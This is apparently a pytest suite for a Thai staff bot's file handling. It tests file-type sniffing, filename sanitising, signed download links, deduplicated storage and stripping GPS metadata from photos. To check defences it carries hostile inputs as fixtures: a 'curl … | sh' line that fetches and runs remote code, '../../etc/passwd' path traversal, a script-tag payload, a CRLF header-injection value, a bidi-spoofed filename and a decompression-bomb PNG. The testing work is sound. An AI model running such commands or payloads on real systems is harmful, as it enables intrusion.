"""Files staff send: judged by their bytes, named safely, stored once, photos cleaned."""

import hashlib
import io
import struct
import warnings
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter

from bot.files import links
from bot.files.kinds import ALLOWED_DOCUMENT_TYPES, ALLOWED_IMAGE_TYPES, check_document, sniff
from bot.files.media import human_size, make_preview, pdf_page_count, strip_image_metadata
from bot.files.names import (
    EXTENSION_KINDS,
    ascii_filename,
    content_disposition,
    download_filename,
    safe_display_name,
    title_from_filename,
)
from bot.files.store import ContentStore
from bot.spine import signing
from bot.thai.text import clip, cut

ACCEPTED = "รับเฉพาะ PDF, Word, Excel, PowerPoint, OpenDocument หรือ ZIP"
PASSWORD = "ไฟล์นี้ตั้งรหัสผ่านไว้ ผู้อ่านจะเปิดไม่ได้ กรุณาเอารหัสผ่านออกแล้วส่งใหม่"
GPS_IFD = 0x8825
ORIENTATION = 0x0112

# --- building real files ----------------------------------------------------------------------


def make_pdf(pages=1, **encrypt):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if encrypt:
        writer.encrypt(algorithm="RC4-128", **encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            compress = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=compress)
    return out.getvalue()


def make_ooxml(folder, *extra):
    members = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
        f"{folder}/main.xml": "<x/>",
    }
    return make_zip(members | {name: "x" for name in extra})


def make_odf(mime):
    return make_zip({"mimetype": mime, "content.xml": "<x/>", "META-INF/manifest.xml": "<x/>"})


END_OF_CHAIN, FREE_SECTOR = 0xFFFFFFFE, 0xFFFFFFFF


def cfb_entry(name, kind, child=FREE_SECTOR, right=FREE_SECTOR):
    """One 128-byte directory entry (kind 1 storage, 2 stream, 5 root)."""
    encoded = (name + "\0").encode("utf-16-le")
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        encoded,
        len(encoded),
        kind,
        1,  # black
        FREE_SECTOR,  # left sibling
        right,
        child,
        b"\0" * 16,  # class id
        0,  # state bits
        0,  # created
        0,  # modified
        END_OF_CHAIN,  # first sector
        0,  # size
    )


def make_compound_file(*stream_names, trailing=b""):
    """A minimal OLE2 compound file: header, one FAT sector, one directory sector."""
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        bytes.fromhex("d0cf11e0a1b11ae1"),
        b"\0" * 16,
        0x3E,  # minor version
        3,  # major version: 512-byte sectors
        0xFFFE,  # byte order
        9,  # sector shift
        6,  # mini sector shift
        b"\0" * 6,
        0,  # directory sectors (0 for version 3)
        1,  # FAT sectors
        1,  # first directory sector
        0,  # transaction signature
        4096,  # mini stream cutoff
        END_OF_CHAIN,  # first mini FAT sector
        0,
        END_OF_CHAIN,  # first DIFAT sector
        0,
    )
    header += struct.pack("<109I", 0, *[FREE_SECTOR] * 108)
    fat = struct.pack("<128I", 0xFFFFFFFD, END_OF_CHAIN, *[FREE_SECTOR] * 126)
    entries = [cfb_entry("Root Entry", 5, child=1 if stream_names else FREE_SECTOR)]
    for i, name in enumerate(stream_names, start=1):
        right = i + 1 if i < len(stream_names) else FREE_SECTOR
        entries.append(cfb_entry(name, 2, right=right))
    directory = b"".join(entries).ljust(512, b"\0")
    return header + fat + directory + trailing


def make_jpeg(size=(40, 20), exif=None, **save_options):
    image = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    if exif is not None:
        save_options["exif"] = exif
    image.save(out, "JPEG", **save_options)
    return out.getvalue()


def exif_with_gps_and_orientation():
    exif = Image.Exif()
    exif[ORIENTATION] = 6  # stored sideways: viewers rotate it 90° clockwise
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (16.0, 52.0, 59.0)  # near Mae Sot
    gps[3] = "E"
    gps[4] = (98.0, 33.0, 56.0)
    return exif


def png_with_size(width, height):
    """A PNG whose header claims ``width`` x ``height`` pixels: a decompression bomb's shape."""
    out = io.BytesIO()
    Image.new("L", (1, 1)).save(out, "PNG")
    data = bytearray(out.getvalue())
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
WINDOWS_EXE = b"MZ\x90\x00" + b"\x00" * 200
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


# --- sniffing -------------------------------------------------------------------------------------


def test_pdf_is_sniffed_and_counted():
    pdf = make_pdf()
    sniffed = sniff(pdf)
    assert (sniffed.kind, sniffed.mime, sniffed.label) == ("pdf", "application/pdf", "PDF")
    assert pdf_page_count(pdf) == 1
    assert pdf_page_count(make_pdf(pages=3)) == 3
    assert check_document(pdf, "ประกาศ.pdf") == (sniffed, None)


@pytest.mark.parametrize(
    ("data", "kind", "label"),
    [
        (make_ooxml("word"), "docx", "Word"),
        (make_ooxml("xl"), "xlsx", "Excel"),
        (make_ooxml("ppt"), "pptx", "PowerPoint"),
        (make_odf("application/vnd.oasis.opendocument.text"), "odt", "OpenDocument ข้อความ"),
        (
            make_odf("application/vnd.oasis.opendocument.spreadsheet"),
            "ods",
            "OpenDocument ตารางคำนวณ",
        ),
        (
            make_odf("application/vnd.oasis.opendocument.presentation"),
            "odp",
            "OpenDocument งานนำเสนอ",
        ),
        (make_compound_file("WordDocument", "1Table"), "doc", "Word"),
        (make_compound_file("Workbook"), "xls", "Excel"),
        (make_compound_file("Current User", "PowerPoint Document"), "ppt", "PowerPoint"),
        (make_zip({"ภาพกิจกรรม/01.jpg": "x", "อ่านก่อน.txt": "x"}), "zip", "ZIP"),
    ],
)
def test_office_documents_are_told_apart_by_their_insides(data, kind, label):
    sniffed = sniff(data)
    assert (sniffed.kind, sniffed.mime, sniffed.label) == (
        kind,
        ALLOWED_DOCUMENT_TYPES[kind],
        label,
    )
    assert check_document(data, "ชื่ออะไรก็ได้.bin")[1] is None


def test_images_are_sniffed_but_are_not_documents():
    jpeg = make_jpeg()
    sniffed, reason = check_document(jpeg, "ภาพ.jpg")
    assert (sniffed.kind, sniffed.mime, sniffed.label) == ("jpeg", "image/jpeg", "ภาพ JPEG")
    assert sniffed.extension == "jpg"
    assert reason == (
        f"ไฟล์นี้เป็นภาพ JPEG ซึ่งไม่ใช่เอกสารที่รับได้ หากเป็นภาพกิจกรรม กรุณาส่งเป็นภาพแทน — {ACCEPTED}"
    )
    png = io.BytesIO()
    Image.new("RGB", (2, 2)).save(png, "PNG")
    assert sniff(png.getvalue()).kind == "png"
    assert set(ALLOWED_IMAGE_TYPES) == {"jpeg", "png"}


def test_webp_is_recognised_but_not_accepted():
    webp = io.BytesIO()
    Image.new("RGB", (2, 2)).save(webp, "WEBP")
    sniffed = sniff(webp.getvalue())
    assert (sniffed.kind, sniffed.label) == (None, "ภาพ WEBP")


def test_executable_renamed_pdf_is_refused_with_a_thai_reason():
    sniffed, reason = check_document(ELF, "รายงานผลการดำเนินงาน.pdf")
    assert sniffed.kind is None and sniffed.mime is None
    assert reason == f"ไฟล์นี้ไม่ใช่ PDF ตามที่ตั้งชื่อไว้ (ตรวจพบว่าเป็นไฟล์โปรแกรม) — {ACCEPTED}"


def test_windows_program_renamed_docx_is_refused():
    assert check_document(WINDOWS_EXE, "คำสั่ง.DOCX")[1] == (
        f"ไฟล์นี้ไม่ใช่ Word ตามที่ตั้งชื่อไว้ (ตรวจพบว่าเป็นไฟล์โปรแกรม) — {ACCEPTED}"
    )


def test_a_bidi_trick_name_does_not_change_the_verdict():
    # Shown as "invoiceexe.pdf" by a naive viewer; the real extension is .exe.
    assert check_document(WINDOWS_EXE, "invoice\u202efdp.exe")[1] == (
        f"ไฟล์นี้เป็นไฟล์โปรแกรม ซึ่งไม่ใช่เอกสารที่รับได้ — {ACCEPTED}"
    )


def test_shell_script_and_html_are_refused():
    sniffed, reason = check_document(SHELL_SCRIPT, "ติดตั้ง.sh")
    assert sniffed.kind is None
    assert reason == f"ไฟล์นี้เป็นไฟล์สคริปต์ ซึ่งไม่ใช่เอกสารที่รับได้ — {ACCEPTED}"
    html = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    assert check_document(html, "ประกาศ.pdf")[1] == (
        f"ไฟล์นี้ไม่ใช่ PDF ตามที่ตั้งชื่อไว้ (ตรวจพบว่าเป็นไฟล์ชนิดที่ไม่รู้จัก) — {ACCEPTED}"
    )


def test_a_document_with_a_misleading_name_is_judged_by_its_bytes():
    docx = make_ooxml("word")
    sniffed, reason = check_document(docx, "ตาราง.pdf")
    assert (sniffed.kind, reason) == ("docx", None)


def test_macro_documents_are_refused():
    macro = "ไฟล์นี้มีแมโคร (macro) ซึ่งอาจเป็นอันตรายต่อผู้เปิด"
    sniffed, reason = check_document(make_ooxml("xl", "xl/vbaProject.bin"), "งบ.xlsm")
    assert (sniffed.kind, sniffed.label) == (None, "Excel ที่มีแมโคร")
    assert reason.startswith(macro)
    legacy, reason = check_document(make_compound_file("WordDocument", "Macros"), "a.doc")
    assert legacy.kind is None and reason.startswith(macro)


def test_password_protected_office_file_is_refused():
    sniffed, reason = check_document(
        make_compound_file("EncryptionInfo", "EncryptedPackage"), "ลับ.docx"
    )
    assert sniffed.kind is None
    assert reason == PASSWORD


def test_pdf_with_an_opening_password_is_refused_but_an_owner_password_is_not():
    locked = make_pdf(user_password="1234", owner_password="owner")
    assert sniff(locked).kind == "pdf"
    assert pdf_page_count(locked) is None
    assert check_document(locked, "ลับ.pdf")[1] == PASSWORD
    restricted = make_pdf(user_password="", owner_password="owner")
    assert pdf_page_count(restricted) == 1
    assert check_document(restricted, "ห้ามพิมพ์.pdf")[1] is None


def test_damaged_pdf_has_no_page_count():
    assert pdf_page_count(b"%PDF-1.7\nthis is not really a pdf") is None
    assert pdf_page_count(b"not a pdf at all") is None


def test_stream_names_inside_content_do_not_count():
    # A workbook whose cells happen to hold what looks like a Word directory entry, off the
    # 128-byte grid that real entries sit on.
    lookalike = b"\0\0" + cfb_entry("WordDocument", 2)
    assert sniff(make_compound_file("Workbook", trailing=lookalike)).kind == "xls"


def test_unknown_compound_files_and_packages_are_refused():
    assert sniff(make_compound_file("SummaryInformation")).kind is None
    jar = make_zip({"META-INF/MANIFEST.MF": "Main-Class: x", "x.class": "x"})
    assert (sniff(jar).kind, sniff(jar).label) == (None, "ไฟล์โปรแกรม")


def test_truncated_zip_is_refused():
    data = make_zip({"a.txt": "hello" * 100})
    sniffed, reason = check_document(data[: len(data) // 2], "งาน.zip")
    assert sniffed.label == "ไฟล์ ZIP ที่เสียหาย"
    assert reason == f"ไฟล์นี้ไม่ใช่ ZIP ตามที่ตั้งชื่อไว้ (ตรวจพบว่าเป็นไฟล์ ZIP ที่เสียหาย) — {ACCEPTED}"


def test_empty_file():
    sniffed, reason = check_document(b"", "ว่าง.pdf")
    assert sniffed.kind is None
    assert reason == "ไฟล์นี้ว่างเปล่า กรุณาส่งใหม่อีกครั้ง"


# --- names --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\ครู\\Desktop\\แผนงาน.docx", "แผนงาน.docx"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("\u2067รายงาน\u2069\u200b.pdf", "รายงาน.pdf"),
        ("  รายงาน   ผลการดำเนินงาน\tไตรมาส ๑ .pdf ", "รายงาน ผลการดำเนินงาน ไตรมาส ๑ .pdf"),
        ("...htaccess", "htaccess"),
        ("a\x00b\r\nc.pdf", "ab c.pdf"),
        ("..", "ไฟล์"),
        ("", "ไฟล์"),
    ],
)
def test_safe_display_name(raw, shown):
    assert safe_display_name(raw) == shown


def test_long_names_keep_their_extension():
    shown = safe_display_name("ก" * 200 + ".pdf")
    # cut after a whole word ("กก" is one to the segmenter), so never longer than 120
    assert shown == "ก" * 114 + "….pdf" and len(shown) == 119


def test_cutting_never_strands_thai_marks_or_leading_vowels():
    assert safe_display_name("เกี่ยว" * 30, max_len=20) == "เกี่ยวเกี่ยวเกี่ยว…"
    # The cut would land on the tone mark of the fourth "กี่"; the syllable is dropped whole.
    assert safe_display_name("กี่" * 10, max_len=10) == "กี่กี่กี่…"


def test_download_filename():
    assert download_filename("คำสั่งที่ 12/2569", "pdf") == "คำสั่งที่ 12-2569.pdf"
    assert download_filename("รายงาน.PDF", ".pdf") == "รายงาน.pdf"
    assert download_filename("ตาราง.xls", "xlsx") == "ตาราง.xlsx"
    assert download_filename('ประกาศ: "ด่วน"?', "docx") == "ประกาศ ด่วน.docx"
    assert download_filename("CON", "pdf") == "_CON.pdf"
    assert download_filename("", "zip") == "ไฟล์.zip"
    with pytest.raises(ValueError):
        download_filename("x", "p/df")


def test_content_disposition_for_a_thai_name():
    assert content_disposition("รายงาน ไตรมาส 1.pdf") == (
        "attachment; filename=\"file-1.pdf\"; filename*=UTF-8''"
        "%E0%B8%A3%E0%B8%B2%E0%B8%A2%E0%B8%87%E0%B8%B2%E0%B8%99%20"
        "%E0%B9%84%E0%B8%95%E0%B8%A3%E0%B8%A1%E0%B8%B2%E0%B8%AA%201.pdf"
    )
    assert content_disposition("Report Q1.pdf", inline=True) == (
        "inline; filename=\"Report-Q1.pdf\"; filename*=UTF-8''Report%20Q1.pdf"
    )


def test_content_disposition_cannot_inject_headers():
    header = content_disposition('x.pdf"\r\nSet-Cookie: a=b')
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment; filename=\"x-pdf-Set-Cookie-a-b\"; filename*=UTF-8''")


def test_ascii_filename():
    assert ascii_filename("แผนปฏิบัติการ.pdf") == "file.pdf"
    assert ascii_filename("Report 2569_Q1.pdf") == "Report-2569_Q1.pdf"
    assert ascii_filename("สรุป 2569.xlsx") == "file-2569.xlsx"


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("รายงาน_ผลการดำเนินงาน-ไตรมาส1.pdf", "รายงาน ผลการดำเนินงาน ไตรมาส1"),
        ("แผนปฏิบัติการ ปี 2569-2570.docx", "แผนปฏิบัติการ ปี 2569-2570"),
        ("IMG_2043.JPG", "IMG 2043"),
        ("ประกาศ ฉบับที่ 1.2", "ประกาศ ฉบับที่ 1.2"),
        ("/tmp/__-__.pdf", ""),
    ],
)
def test_title_from_filename(name, title):
    assert title_from_filename(name) == title


def test_title_is_at_most_200_characters():
    assert len(title_from_filename("ก" * 500 + ".pdf")) == 200


def test_every_kind_we_accept_has_its_file_name_extension_known():
    """Names drop and compare extensions by EXTENSION_KINDS: a kind missing there would keep
    ".odt" in a suggested title and never be told apart from what the sender claimed."""
    assert set(ALLOWED_DOCUMENT_TYPES) | set(ALLOWED_IMAGE_TYPES) <= set(EXTENSION_KINDS.values())
    assert all(EXTENSION_KINDS[kind] == kind for kind in EXTENSION_KINDS.values())


# --- shortening (bot.thai.text) ----------------------------------------------------------------


def test_clip_keeps_short_text_on_one_line():
    assert clip("  ประกาศ\nรับสมัคร  ", 20) == "ประกาศ รับสมัคร"
    assert clip("", 5) == ""


def test_clip_prefers_a_space_and_marks_the_cut():
    text = "ประกาศรับสมัคร ครูอัตราจ้าง ประจำปีงบประมาณ 2570"
    clipped = clip(text, 30)
    assert clipped == "ประกาศรับสมัคร ครูอัตราจ้าง…"
    assert len(clipped) <= 30


def test_clip_never_separates_a_consonant_from_its_marks():
    # "กี่" is three characters; a cut after 4 would keep "ก" and drop its vowel and tone.
    assert clip("กี่" * 5, 6) == "กี่…"
    assert cut("กี่กี่", 4) == "กี่"
    assert cut("ไกลไกล", 4) == "ไกล"  # the second "ไ" would be stranded
    assert cut("café", 3) == "caf" and cut("cafe\u0301", 4) == "caf"


# --- signed links (bot.spine.signing) -------------------------------------------------------


def test_signed_tokens_open_only_for_their_purpose_and_secret():
    token = signing.sign("secret", "record", {"p": 7})
    assert signing.unsign("secret", "record", token, max_age=60) == {"p": 7}
    assert signing.unsign("secret", "preview", token, max_age=60) is None
    assert signing.unsign("other", "record", token, max_age=60) is None
    assert signing.unsign("secret", "record", token[:-2] + "xx", max_age=60) is None
    assert signing.unsign("secret", "record", "not a token", max_age=60) is None


def test_signed_tokens_expire_after_max_age():
    token = signing.sign("secret", "report", {"o": 1})
    later = datetime.now(UTC) + timedelta(seconds=120)
    assert signing.unsign("secret", "report", token, max_age=180, now=later) == {"o": 1}
    assert signing.unsign("secret", "report", token, max_age=60, now=later) is None


def test_file_links_carry_the_attachment_the_preview_flag_and_the_audience(tmp_path):
    config = SimpleNamespace(secret_key="s", public_base_url="https://x.example", data_dir=tmp_path)
    url = links.attachment_url(config, 12, audience="approver", preview=True)
    token = url.removeprefix("https://x.example/f/")
    assert links.attachment_token(config, token) == (12, True, "approver")
    assert links.attachment_token(config, token + "x") is None
    other = signing.sign("s", "file", {"a": "12"})  # signed, but not an attachment id
    assert links.attachment_token(config, other) is None
    stranger = signing.sign("s", "file", {"a": 12, "p": 0, "r": "public"})
    assert links.attachment_token(config, stranger) is None
    older = signing.sign("s", "file", {"a": 12, "p": 0})  # signed before links named an audience
    assert links.attachment_token(config, older) == (12, False, "submitter")
    with pytest.raises(ValueError):
        links.attachment_url(config, 12, audience="everyone")


# --- storage ---------------------------------------------------------------------------------------


def test_content_store_layout_and_idempotency(tmp_path):
    store = ContentStore(tmp_path / "files")
    data = make_pdf()
    sha = store.put(data)
    assert sha == hashlib.sha256(data).hexdigest()
    path = store.path(sha)
    assert path == tmp_path / "files" / sha[:2] / sha[2:4] / sha
    assert path.read_bytes() == data
    assert store.open(sha) == data and store.exists(sha)
    first_write = path.stat().st_mtime_ns

    assert store.put(data) == sha
    assert path.stat().st_mtime_ns == first_write
    assert sorted(p.name for p in path.parent.iterdir()) == [sha]  # no temporary files left


def test_content_store_refuses_malformed_ids(tmp_path):
    store = ContentStore(tmp_path)
    assert not store.exists("../../etc/passwd")
    assert not store.exists("A" * 64)
    with pytest.raises(ValueError):
        store.path("../../etc/passwd")
    with pytest.raises(FileNotFoundError):
        store.open("0" * 64)


# --- photos -----------------------------------------------------------------------------------------


def test_strip_image_metadata_removes_gps_and_all_exif():
    original = make_jpeg(
        exif=exif_with_gps_and_orientation(),
        comment=b"taken at the director's house",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret</x:xmpmeta>',
    )
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(GPS_IFD)[1] == "N"
        assert "comment" in before.info and "xmp" in before.info

    cleaned, mime = strip_image_metadata(original)

    assert mime == "image/jpeg"
    with Image.open(io.BytesIO(cleaned)) as after:
        assert after.format == "JPEG"
        assert after.size == (20, 40)  # turned upright, since the orientation tag is gone
        assert after.getexif().get_ifd(GPS_IFD) == {}
        assert len(after.getexif()) == 0
        assert not {"exif", "xmp", "comment"} & set(after.info)
    assert b"Exif\x00\x00" not in cleaned
    assert b"PhoneMaker" not in cleaned and b"director" not in cleaned and b"secret" not in cleaned


def test_png_stays_png_without_text_and_keeps_transparency():
    image = Image.new("RGBA", (8, 8), (0, 0, 0, 0))
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "secret teacher")
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=exif)

    cleaned, mime = strip_image_metadata(out.getvalue())

    assert mime == "image/png"
    with Image.open(io.BytesIO(cleaned)) as after:
        assert (after.format, after.mode) == ("PNG", "RGBA")
        assert after.text == {}
        assert after.getpixel((0, 0)) == (0, 0, 0, 0)
    assert b"secret" not in cleaned and b"PhoneMaker" not in cleaned


@pytest.mark.parametrize("data", [make_pdf(), ELF, SHELL_SCRIPT, b""])
def test_strip_image_metadata_refuses_non_images(data):
    with pytest.raises(ValueError):
        strip_image_metadata(data)


def test_decompression_bombs_are_refused():
    bomb = png_with_size(20_000, 20_000)  # 400 MP claimed in a 70-byte file
    with pytest.raises(ValueError, match="too large"):
        strip_image_metadata(bomb)
    with pytest.raises(ValueError, match="too large"):
        make_preview(bomb)


def test_images_over_our_limit_are_refused_even_where_pillow_only_warns():
    big = png_with_size(8_000, 7_000)  # 56 MP: Pillow warns, we refuse
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", Image.DecompressionBombWarning)
        with pytest.raises(ValueError, match=r"too large \(8000x7000\)"):
            strip_image_metadata(big)
        with pytest.raises(ValueError, match=r"too large \(8000x7000\)"):
            make_preview(big)


def test_preview_is_a_small_upright_jpeg():
    noise = Image.effect_noise((3000, 1500), 80).convert("RGB")
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=95)
    preview = make_preview(out.getvalue())
    assert len(preview) <= 1_000_000
    with Image.open(io.BytesIO(preview)) as image:
        assert image.format == "JPEG"
        assert image.size == (1024, 512)

    tight = make_preview(out.getvalue(), max_bytes=30_000)
    assert len(tight) <= 30_000

    sideways = make_preview(make_jpeg(size=(400, 200), exif=exif_with_gps_and_orientation()))
    with Image.open(io.BytesIO(sideways)) as image:
        assert image.size == (200, 400)
        assert image.getexif().get_ifd(GPS_IFD) == {}


def test_preview_flattens_transparency_onto_white():
    out = io.BytesIO()
    Image.new("RGBA", (10, 10), (0, 0, 0, 0)).save(out, "PNG")
    with Image.open(io.BytesIO(make_preview(out.getvalue()))) as image:
        assert image.mode == "RGB"
        assert all(channel >= 250 for channel in image.getpixel((5, 5)))


# --- sizes ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (0, "0 ไบต์"),
        (1023, "1023 ไบต์"),
        (1024, "1 KB"),
        (350 * 1024, "350 KB"),
        (1024 * 1024 - 1, "1.0 MB"),
        (1_258_291, "1.2 MB"),
        (10 * 1024**2, "10.0 MB"),
        (int(2.5 * 1024**3), "2.5 GB"),
    ],
)
def test_human_size(size, text):
    assert human_size(size) == text
